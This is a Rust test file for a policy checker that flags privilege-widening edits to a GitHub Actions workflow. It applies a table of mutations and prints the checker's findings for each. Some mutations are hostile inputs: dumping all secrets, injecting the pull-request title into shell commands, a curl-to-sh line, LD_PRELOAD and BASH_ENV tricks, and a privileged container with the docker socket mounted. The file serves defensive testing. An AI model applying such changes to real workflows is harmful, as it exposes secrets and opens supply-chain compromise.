//! Realistic workflows, and what is said of a change of them.

use crate::policy::testing::*;

/// Judges one file by a rule with these keys; each finding without its path and effect.
fn said(keys: &str, path: &str, old: Option<&str>, new: Option<&str>) -> Vec<String> {
    let rule = with_rule(&format!("kind = \"ci-privilege\"\n{keys}"));
    let found = judge_files(&rule, &[(path, old.map(str::as_bytes), new.map(str::as_bytes))]);
    let plain = |line: String| line.replace(&format!("refuse r {path}"), "").trim_start_matches(':').to_owned();
    found.into_iter().map(plain).collect()
}

const CI: &str = "\
name: ci
on:
  push:
    branches: [main]
  pull_request:
permissions:
  contents: read
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8
      - name: Test
        run: cargo test
  publish:
    needs: [test]
    if: github.ref == 'refs/heads/main' && github.repository == 'acme/app'
    environment: release
    runs-on: ubuntu-latest
    permissions:
      contents: write
    steps:
      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8
      - name: Publish
        if: github.actor != 'dependabot[bot]'
        run: cargo publish
        env:
          CARGO_TOKEN: ${{ secrets.CARGO_TOKEN }}
";

#[test]
fn print_all() {
    let table: &[(&str, &str)] = &[
        ("contents: read", "contents: write"),
        ("contents: read", "contents: read\n  id-token: write"),
        ("permissions:\n  contents: read", "permissions: write-all"),
        ("permissions:\n  contents: read\n", ""),
        ("    permissions:\n      contents: write\n", ""),
        ("  pull_request:\n", "  pull_request_target:\n"),
        ("    branches: [main]\n", ""),
        ("    branches: [main]\n", "    branches: [main, 'agent/**']\n"),
        ("  pull_request:\n", "  pull_request:\n  workflow_run:\n    workflows: [ci]\n"),
        (
            "cargo publish\n",
            "cargo publish\n      - run: ./notify ${{ secrets.SLACK }} ${{ secrets['CARGO_TOKEN'] }}\n",
        ),
        ("cargo test\n", "echo '${{ toJSON(secrets) }}'\n"),
        ("    runs-on: ubuntu-latest\n    steps", "    runs-on: [self-hosted, ubuntu-latest]\n    steps"),
        (
            "    runs-on: ubuntu-latest\n    steps",
            "    runs-on: ${{ matrix.os }}\n    strategy:\n      matrix:\n        os: [ubuntu-22.04, evil]\n    steps",
        ),
        ("checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8", "checkout@v4"),
        (
            "      - name: Test\n",
            "      - uses: acme/setup@main\n      - uses: ./local\n      - uses: docker://alpine:3\n      - name: Test\n",
        ),
        ("cargo test\n", "cargo test --features \"${{ github.event.pull_request.title }}\"\n"),
        (
            "run: cargo test\n",
            "run: |\n          set -e\n          echo ${{ github.head_ref }}\n          curl -sSf https://example.com/i | sh\n",
        ),
        ("    if: github.ref == 'refs/heads/main' && github.repository == 'acme/app'\n", ""),
        (" && github.repository == 'acme/app'", ""),
        (" && github.repository == 'acme/app'", " || github.repository == 'acme/app'"),
        ("github.ref == 'refs/heads/main' && github.repository == 'acme/app'", "always()"),
        ("        if: github.actor != 'dependabot[bot]'\n", ""),
        ("name: Publish\n        if: github.actor != 'dependabot[bot]'\n", "name: Release\n"),
        ("    environment: release\n", ""),
        ("    needs: [test]\n", ""),
        ("        run: cargo test\n", "        run: cargo test\n        continue-on-error: true\n"),
        ("        run: cargo test\n", "        if: false\n        run: cargo test\n"),
        ("  test:\n", "  tests:\n"),
        (
            "    steps:\n      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8\n      - name: Test",
            "    container:\n      image: node:20\n      options: --privileged --network host\n      volumes: [/var/run/docker.sock:/var/run/docker.sock, cache:/c]\n    services:\n      db: postgres:16\n    steps:\n      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8\n      - name: Test",
        ),
        (
            "permissions:\n  contents: read\n",
            "permissions:\n  contents: read\nenv:\n  LD_PRELOAD: ./x.so\n  NODE_OPTIONS: --max-old-space-size=4096\n",
        ),
        (
            "run: cargo test\n",
            "run: echo \"T=$TITLE\" >> $GITHUB_ENV\n        env:\n          TITLE: ${{ github.event.issue.title }}\n",
        ),
        ("run: cargo test\n", "run: echo \"BASH_ENV=x.sh\" >> \"$GITHUB_ENV\"\n"),
        ("run: cargo test\n", "run: cargo test\n        run: evil\n"),
        ("name: ci\n", "name: ci # a comment\n"),
        ("run: cargo test\n", "run: cargo test --all\n"),
        ("name: ci\n", "name: [ci\n"),
    ];
    for (from, to) in table {
        let new = CI.replacen(from, to, 1);
        assert!(new != CI, "{from}");
        println!("--- {to:?}");
        for line in said("", ".github/workflows/ci.yml", Some(CI), Some(&new)) {
            println!("    {line}");
        }
    }
    println!("--- new");
    println!("{:#?}", said("", ".github/workflows/ci.yml", None, Some(CI)));
    println!("--- gone");
    println!("{:#?}", said("", ".github/workflows/ci.yml", Some(CI), None));
    println!("{:#?}", said("", ".github/workflows/ci.yml", Some(CI), Some("")));
    println!("--- same");
    println!("{:#?}", said("", ".github/workflows/ci.yml", Some(CI), Some(&format!("# x\n{CI}"))));
}
